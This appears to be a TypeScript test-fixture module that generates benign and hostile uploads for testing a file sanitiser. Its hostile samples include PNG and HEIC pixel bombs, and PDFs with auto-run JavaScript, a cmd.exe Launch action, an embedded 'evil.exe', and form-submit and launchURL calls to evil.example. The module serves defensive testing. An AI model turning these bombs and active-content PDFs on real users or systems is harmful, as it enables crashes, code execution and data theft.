import { readFileSync } from "node:fs";
import { deflateSync, crc32 } from "node:zlib";
import { PDFDocument, PDFName, PDFString, type PDFDict } from "pdf-lib";
import sharp from "sharp";

/**
 * Test files for the uploads sanitiser, generated on the spot so the repository holds no hostile file: benign
 * images and PDFs, and the hostile ones of the acceptance list (PDF actions, GPS-tagged JPEG, pixel bomb, zip,
 * polyglots). Each builder returns the bytes and the content type a client would declare.
 */
export const uploadCorpus = {
  async jpegWithGps(): Promise<Buffer> {
    return sharp({ create: { width: 64, height: 48, channels: 3, background: { r: 200, g: 30, b: 30 } } })
      .withExif({ IFD0: { Copyright: "mamori test", Artist: "試験 太郎" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "35/1 41/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "139/1 41/1 0/1" } })
      .withIccProfile("p3")
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>secret author</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>')
      .jpeg()
      .toBuffer();
  },
  png: (width = 32, height = 32): Promise<Buffer> => sharp({ create: { width, height, channels: 4, background: { r: 0, g: 120, b: 200, alpha: 0.5 } } }).png().toBuffer(),
  webp: (): Promise<Buffer> => sharp({ create: { width: 32, height: 32, channels: 3, background: { r: 0, g: 200, b: 0 } } }).withExif({ IFD0: { Copyright: "x" } }).webp().toBuffer(),

  /** A PNG whose header declares width × height pixels of 1-bit grey, all zero: tiny on disk, huge decoded. */
  pngBomb(width = 20_000, height = 20_000): Buffer {
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    header.writeUInt8(1, 8); // bit depth
    header.writeUInt8(0, 9); // greyscale
    const raw = Buffer.alloc((1 + Math.ceil(width / 8)) * height);
    return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk("IHDR", header), pngChunk("IDAT", deflateSync(raw, { level: 9 })), pngChunk("IEND", Buffer.alloc(0))]);
  },

  /** A zip archive with one stored file (PKWARE APPNOTE 4.3). */
  zip(name = "hello.txt", content = Buffer.from("hello")): Buffer {
    const nameBytes = Buffer.from(name);
    const crc = crc32(content);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(10, 4);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(content.length, 18);
    local.writeUInt32LE(content.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(10, 6);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(content.length, 20);
    central.writeUInt32LE(content.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    const localLength = local.length + nameBytes.length + content.length;
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    end.writeUInt16LE(1, 8);
    end.writeUInt16LE(1, 10);
    end.writeUInt32LE(central.length + nameBytes.length, 12);
    end.writeUInt32LE(localLength, 16);
    return Buffer.concat([local, nameBytes, content, central, nameBytes, end]);
  },

  /** The start of a Windows executable (MZ header with a PE signature). */
  exe(): Buffer {
    const bytes = Buffer.alloc(256);
    bytes.write("MZ", 0, "latin1");
    bytes.writeUInt32LE(0x80, 0x3c);
    bytes.write("PE\0\0", 0x80, "latin1");
    return bytes;
  },

  /** An ISO-BMFF file branded HEIC (ftyp heic) with no decodable image. */
  heic(): Buffer {
    const ftyp = Buffer.alloc(24);
    ftyp.writeUInt32BE(24, 0);
    ftyp.write("ftypheic", 4, "latin1");
    ftyp.write("mif1heic", 16, "latin1");
    const meta = Buffer.alloc(16);
    meta.writeUInt32BE(16, 0);
    meta.write("meta", 4, "latin1");
    return Buffer.concat([ftyp, meta]);
  },

  /**
   * A real HEVC-coded HEIC, 64×48, four coloured squares, with EXIF Artist and GPS (Tokyo Station). Made with
   * Debian's heif-enc (x265) and exiftool; see test/fixtures/uploads/README.md.
   */
  heicWithGps(): Buffer {
    return readFileSync(new URL("../../test/fixtures/uploads/squares-gps.heic", import.meta.url));
  },

  /** The same HEIC with every `ispe` (image spatial extents) box declaring width × height: tiny file, huge decode. */
  heicBomb(width = 20_000, height = 20_000): Buffer {
    const bytes = Buffer.from(uploadCorpus.heicWithGps());
    for (let at = bytes.indexOf("ispe"); at >= 0; at = bytes.indexOf("ispe", at + 4)) {
      bytes.writeUInt32BE(width, at + 8); // after the box type and version/flags (ISO/IEC 23008-12 §6.5.3)
      bytes.writeUInt32BE(height, at + 12);
    }
    return bytes;
  },

  /** A benign PDF of `pages` pages with text on each. */
  async pdf(pages = 2): Promise<Buffer> {
    const doc = await PDFDocument.create();
    for (let i = 0; i < pages; i += 1) doc.addPage([300, 200]).drawText(`page ${i + 1}`, { x: 20, y: 100, size: 18 });
    doc.setAuthor("secret author");
    return Buffer.from(await doc.save());
  },

  /** PDFs carrying each kind of active content the sanitiser must remove. */
  async hostilePdf(kind: "javascript-open-action" | "launch" | "embedded-file" | "uri-link" | "acroform" | "names-javascript"): Promise<Buffer> {
    const doc = await PDFDocument.create();
    const page = doc.addPage([300, 200]);
    page.drawText("hostile", { x: 20, y: 100, size: 18 });
    const { context, catalog } = doc;
    const js = (code: string) => context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) });
    const rect = context.obj([10, 10, 200, 50]);
    if (kind === "javascript-open-action") catalog.set(PDFName.of("OpenAction"), context.register(js("app.alert('pwned')")));
    if (kind === "launch") {
      const launch = context.obj({ S: "Launch", F: PDFString.of("cmd.exe"), NewWindow: true });
      catalog.set(PDFName.of("OpenAction"), launch);
      page.node.set(PDFName.of("AA"), context.obj({ O: launch }));
    }
    if (kind === "embedded-file") {
      const stream = context.flateStream(Buffer.from("MZ evil payload"), { Type: "EmbeddedFile" });
      const spec = context.obj({ Type: "Filespec", F: PDFString.of("evil.exe"), EF: { F: context.register(stream) } });
      catalog.set(PDFName.of("Names"), context.obj({ EmbeddedFiles: { Names: [PDFString.of("evil.exe"), context.register(spec)] } }));
      const annot = context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: rect, FS: context.register(spec) });
      page.node.set(PDFName.of("Annots"), context.obj([context.register(annot)]));
    }
    if (kind === "uri-link") {
      const link = context.obj({ Type: "Annot", Subtype: "Link", Rect: rect, A: { S: "URI", URI: PDFString.of("https://evil.example/steal") } });
      page.node.set(PDFName.of("Annots"), context.obj([context.register(link)]));
    }
    if (kind === "acroform") {
      const widget = context.obj({
        Type: "Annot",
        Subtype: "Widget",
        FT: "Tx",
        T: PDFString.of("name"),
        Rect: rect,
        AA: { K: js("this.submitForm('https://evil.example')") },
        A: { S: "SubmitForm", F: PDFString.of("https://evil.example/form") },
      });
      const widgetRef = context.register(widget);
      const xfa = context.register(context.flateStream(Buffer.from("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")));
      catalog.set(PDFName.of("AcroForm"), context.obj({ Fields: [widgetRef], XFA: xfa }));
      page.node.set(PDFName.of("Annots"), context.obj([widgetRef]));
    }
    if (kind === "names-javascript") {
      catalog.set(PDFName.of("Names"), context.obj({ JavaScript: { Names: [PDFString.of("init"), context.register(js("app.launchURL('https://evil.example')"))] } }));
      catalog.set(PDFName.of("AA"), context.obj({ WC: js("app.alert('closing')") }) as PDFDict);
    }
    return Buffer.from(await doc.save({ useObjectStreams: false }));
  },

  /** A PDF whose trailer says it is encrypted (Standard security handler). */
  async encryptedPdf(): Promise<Buffer> {
    const doc = await PDFDocument.create();
    doc.addPage([100, 100]);
    doc.context.trailerInfo.Encrypt = doc.context.register(
      doc.context.obj({ Filter: "Standard", V: 1, R: 2, O: PDFString.of("x".repeat(32)), U: PDFString.of("y".repeat(32)), P: -4 }),
    );
    return Buffer.from(await doc.save({ useObjectStreams: false }));
  },
};

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}
